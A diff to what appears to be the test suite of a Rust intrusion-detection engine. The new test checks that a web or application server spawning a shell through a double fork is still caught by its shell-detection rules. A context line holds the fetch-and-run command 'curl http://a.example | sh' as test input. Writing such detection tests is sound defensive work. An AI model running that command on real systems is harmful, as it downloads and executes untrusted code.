@@ -66,6 +66,32 @@ fn a_server_that_becomes_a_shell() {
 }
 
 #[test]
+fn a_server_that_forks_twice_is_not_lost() {
+    let mut scene = scene();
+    scene.accepts(703, FAR);
+    for (server, between, shell, rule) in [
+        (701, 801, 802, "web-server-shell"),
+        (703, 803, 804, "application-server-shell"),
+    ] {
+        scene.forks(server, between);
+        scene.forks(between, shell);
+        scene.exits(between, 0);
+        // The host's first process has adopted it.
+        let alerts = scene.execs(shell, "/bin/sh", &["sh"], |exec| {
+            exec.parent = process_id(1)
+        });
+        assert_eq!(ids(&alerts), [rule]);
+    }
+    // A shell that a child of the server starts, which is another program, is that program's.
+    scene.spawns(701, 805, "/usr/bin/rotatelogs", &["rotatelogs"], |_| {});
+    assert!(
+        scene
+            .spawns(805, 806, "/bin/sh", &["sh"], |_| {})
+            .is_empty()
+    );
+}
+
+#[test]
 fn a_service_that_took_a_connection() {
     let mut scene = scene();
     let argv = ["sh", "-c", "curl http://a.example | sh"];
